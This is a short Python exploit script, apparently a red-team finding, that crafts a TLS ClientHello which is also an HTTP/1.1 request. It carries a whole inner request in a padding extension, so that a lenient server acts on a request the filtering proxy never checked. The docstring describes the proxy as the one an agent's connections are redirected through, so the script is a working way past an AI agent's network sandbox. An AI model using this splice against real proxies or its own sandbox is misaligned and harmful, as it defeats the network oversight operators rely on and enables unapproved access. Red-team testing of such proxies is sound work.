#!/usr/bin/env python3
"""F1 of red team round 5: a TLS ClientHello that is also an HTTP/1.1 request head to a lenient
plaintext server (WEBrick), with a whole request riding inside it (a padding extension). Spliced
byte for byte, the server acts on the inner request, which the proxy never decided.

usage: tls_splice.py SNI IP PORT REQUEST  (REQUEST: the inner request, `\\r\\n` as written)
Connects to IP:PORT (the kernel redirects an agent's connect to the proxy), sends the
ClientHello, and prints what came back as JSON: {"alert": the answer is a TLS alert, "text"}.
"""
import json, socket, struct, sys


def hello(sni, inner):
    name = sni.encode()
    sn_list = b'\x00' + struct.pack('>H', len(name)) + name
    exts = struct.pack('>HH', 0, len(sn_list) + 2) + struct.pack('>H', len(sn_list)) + sn_list
    exts += struct.pack('>HH', 0x15, len(inner)) + inner
    tail = struct.pack('>H', 2) + b'\x13\x01' + b'\x01\x00' + struct.pack('>H', len(exts)) + exts
    # random (32 bytes): the rest of the request line and the start of a Content-Length header;
    # the session id's length byte (32) is a space in its value, the session id holds the length
    # (to the end of the padding's header) and the end of the head.
    random = b' / HTTP/1.1\r\nContent-Length:'
    random += b' ' * (32 - len(random))
    pad = 32 - 6
    n = pad + len(tail) - len(inner)
    assert 10 <= n < 100
    sid = b'%d\r\n\r\n' % n + b'P' * pad
    body = b'\x03\x03' + random + bytes([32]) + sid + tail
    hs = b'\x01' + struct.pack('>I', len(body))[1:] + body
    return b'\x16\x03\x01' + struct.pack('>H', len(hs)) + hs


def main():
    sni, ip, port, request = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
    inner = request.encode().replace(b'\\r\\n', b'\r\n')
    s = socket.create_connection((ip, port), timeout=10)
    s.sendall(hello(sni, inner))
    s.settimeout(5)
    out = b''
    try:
        while True:
            c = s.recv(65536)
            if not c:
                break
            out += c
    except (socket.timeout, ConnectionResetError):
        pass
    print(json.dumps({"alert": out[:1] == b'\x15', "text": out.decode('latin1')}))


main()
